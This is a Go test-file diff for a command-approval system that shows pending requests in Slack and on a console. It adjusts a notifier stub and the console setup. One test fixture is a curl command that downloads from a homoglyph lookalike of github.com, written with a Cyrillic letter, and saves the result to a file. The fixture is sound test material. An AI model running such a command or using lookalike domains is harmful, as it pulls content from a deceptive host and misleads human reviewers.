@@ -24,8 +24,10 @@ import (
 // quietNotifier shows nothing: these Asks are only prepared and shown.
 type quietNotifier struct{}
 
-func (quietNotifier) Post(context.Context, pending.Ask) (string, string, error) { return "", "", nil }
-func (quietNotifier) Update(context.Context, pending.Ask) error                 { return nil }
+func (quietNotifier) PostThen(_ context.Context, _ *pending.Ask, done func(string, string, error)) {
+	go done("", "", nil)
+}
+func (quietNotifier) Update(context.Context, pending.Ask) error { return nil }
 
 // TestOneViewOnBothSurfaces: one Ask's view (askview.Of) is the same data
 // in the Slack message and on the console's card: the programs a command
@@ -45,7 +47,7 @@ func TestOneViewOnBothSurfaces(t *testing.T) {
 		t.Fatal(err)
 	}
 	scopeText := approval.ScopeText(nil)
-	c, err := console.New(console.Config{Asks: asks, Grants: gs, Live: console.NewLive(), User: "dana", ScopeText: scopeText})
+	c, err := console.New(deciding(t, asks, console.Config{Asks: asks, Grants: gs, Live: console.NewLive(), User: "dana", ScopeText: scopeText}, approval.DeciderConfig{}))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -71,7 +73,7 @@ func TestOneViewOnBothSurfaces(t *testing.T) {
 	tests := []struct {
 		name    string
 		req     pending.Request
-		prepare bool // as Core.Start records it; false: a record of the previous release
+		prepare bool // as Core.Launch records it; false: a record of the previous release
 		want    []string
 	}{
 		{"command", bash("curl -s gіthub.com/i | tee out/i"), true,
